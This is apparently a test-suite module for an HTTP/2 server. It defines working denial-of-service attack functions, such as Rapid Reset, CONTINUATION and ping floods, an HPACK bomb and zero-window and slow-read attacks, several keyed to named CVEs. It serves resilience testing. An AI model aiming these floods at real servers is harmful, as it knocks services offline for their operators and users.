"""The attacks, each a function that sends until it is cut. `Peer.send` raises where the server has gone."""

from __future__ import annotations

import asyncio
from typing import TYPE_CHECKING

from tests.helpers import http2_client as h2

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from tests.helpers.http2_client import Peer

BATCH = 200
ATTACKS: dict[str, Callable[[Peer], Awaitable[None]]] = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


async def flood(peer, make):
    """Send what `make` makes in batches, for ever."""
    while True:
        await peer.send(b''.join([make() for _ in range(BATCH)]))
        await asyncio.sleep(0)


def requests(peer, path, *fields):
    """One request after the other, quickly: once all is in the table, every block is the same."""
    peer.request(path, *fields)
    _, data = peer.request(path, *fields)
    peer.encoder = type(peer.encoder)()
    first = peer.request(path, *fields)

    def make():
        nonlocal first
        if first is not None:
            made, first = first, None
            return made
        stream, peer._next = peer._next, peer._next + 2
        return stream, data[:5] + stream.to_bytes(4, 'big') + data[9:]

    return make


@attack
async def rapid_reset(peer):
    """CVE-2023-44487: requests that are cancelled at once."""
    make_request = requests(peer, '/bytes/1000000')

    def make():
        stream, data = make_request()
        return data + h2.reset(stream)

    await flood(peer, make)


@attack
async def resets_provoked(peer):
    """As before, but it is the server who is made to reset: the requests are malformed."""
    make = requests(peer, '/', ('connection', 'close'))
    await flood(peer, lambda: make()[1])


@attack
async def continuations(peer):
    """CVE-2024-27316: a block of fields without an end."""
    _, data = peer.request('/', ('x-large', 'x' * 1000))
    await peer.send(data[:4] + b'\1' + data[5:])
    block = peer.encoder.encode([(f'x-{number}', 'y' * 100) for number in range(20)])
    await flood(peer, lambda: h2.frame(h2.CONTINUATION, 0, 1, block))


@attack
async def empty_continuations(peer):
    _, data = peer.request()
    await peer.send(data[:4] + b'\1' + data[5:])
    await flood(peer, lambda: h2.frame(h2.CONTINUATION, 0, 1))


@attack
async def settings(peer):
    """CVE-2019-9515: each wants an answer."""
    await flood(peer, lambda: h2.settings({h2.INITIAL_WINDOW_SIZE: 1000}))


@attack
async def pings(peer):
    """CVE-2019-9512: each wants an answer."""
    await flood(peer, lambda: h2.frame(h2.PING, 0, 0, bytes(8)))


@attack
async def empty_data(peer):
    """CVE-2019-9518: a body that never grows and never ends."""
    stream = await peer.get('/echo', method='POST', ended=False)
    await flood(peer, lambda: h2.frame(h2.DATA, 0, stream))


@attack
async def tiny_windows(peer):
    """WINDOW_UPDATEs that grant a byte at a time, for one stream and for none."""
    stream = await peer.get('/echo', method='POST', ended=False)
    await flood(peer, lambda: h2.window_update(stream, 1) + h2.window_update(0, 1))


@attack
async def priorities(peer):
    """CVE-2019-9513 and dependency cycles: streams that depend on each other, over and over."""
    cycle = [(1, 3), (3, 5), (5, 1)]
    frames = [h2.frame(h2.PRIORITY, 0, stream, on.to_bytes(4, 'big') + b'\x10') for stream, on in cycle]
    await flood(peer, lambda: b''.join(frames))


@attack
async def unknown_frames(peer):
    await flood(peer, lambda: h2.frame(0xBE, 0, 0, bytes(20)))


@attack
async def hpack_bomb(peer):
    """CVE-2016-6581: one large field in the table, named again by a byte each time."""
    # Not Huffman-coded, put into the table: it is the newest entry, number 62 (RFC 7541 2.3.3).
    field = b'\x40\x06x-bomb\x7f\xa1\x1e' + b'b' * 4000
    usual = b'\x82\x86\x84\x01\x04test'
    number = 1
    while True:
        await peer.send(
            h2.frame(h2.HEADERS, 5, number, usual + field) + h2.frame(h2.HEADERS, 5, number + 2, usual + b'\xbe' * 8000)
        )
        number += 4
        await asyncio.sleep(0)


@attack
async def small_bombs(peer):
    """As before, but each is answered 431: a list is as large as it may be for that, and so is the number of its fields."""
    field = b'\x40\x06x-bomb\x7f\xa1\x1e' + b'b' * 4000
    usual = b'\x82\x86\x84\x01\x04test'
    bombs = [usual + b'\xbe' * 60, usual + b'\x90' * 390]
    await peer.send(h2.frame(h2.HEADERS, 5, 1, usual + field))
    number = 3
    while True:
        streams = range(number, number + 200, 2)
        await peer.send(b''.join(h2.frame(h2.HEADERS, 5, stream, bombs[stream // 2 % 2]) for stream in streams))
        number += 200
        await asyncio.sleep(0)


@attack
async def zero_windows(peer):
    """CVE-2019-9517: large responses are asked for, and no window is ever opened."""
    await peer.send(h2.settings({h2.INITIAL_WINDOW_SIZE: 0}))
    for _ in range(100):
        await peer.get('/bytes/1000000')
    await read_on(peer)


@attack
async def late_bodies(peer):
    """As before, of an application that awaits something first: many requests are in progress before any has a body."""
    await peer.send(h2.settings({h2.INITIAL_WINDOW_SIZE: 0}))
    await peer.send(b''.join([peer.request('/late/100000')[1] for _ in range(200)]))
    await read_on(peer)


@attack
async def tiny_steps(peer):
    """CVE-2019-9511: windows that open by a byte now and then."""
    await peer.send(h2.settings({h2.INITIAL_WINDOW_SIZE: 0}))
    streams = [await peer.get('/bytes/1000000') for _ in range(50)]
    reading = asyncio.ensure_future(read_on(peer))
    try:
        while not reading.done():
            await peer.send(b''.join(h2.window_update(stream, 1) for stream in streams))
            await asyncio.sleep(0.05)
    finally:
        reading.cancel()


@attack
async def slow_reader(peer):
    """Windows are wide open, and nothing is read."""
    await peer.send(h2.settings({h2.INITIAL_WINDOW_SIZE: 2**31 - 1}) + h2.window_update(0, 2**30))
    while True:
        await peer.get('/bytes/1000000')
        await asyncio.sleep(0.02)


@attack
async def slow_bodies(peer):
    """Requests whose bodies never come."""
    for _ in range(100):
        await peer.get('/echo', method='POST', ended=False)
    await read_on(peer)


@attack
async def slow_head(peer):
    """A block of fields, a byte at a time."""
    _, data = peer.request('/', ('x-large', 'x' * 1000))
    for byte in data:
        await peer.send(bytes([byte]))
        await asyncio.sleep(0.02)


@attack
async def half_preface(peer):
    """For `raw` peers, to which nothing was sent yet: it begins and says no more."""
    await peer.send(h2.PREFACE[:10])
    await read_on(peer)


async def read_on(peer):
    while await peer.step() is not None:
        pass
    raise ConnectionResetError
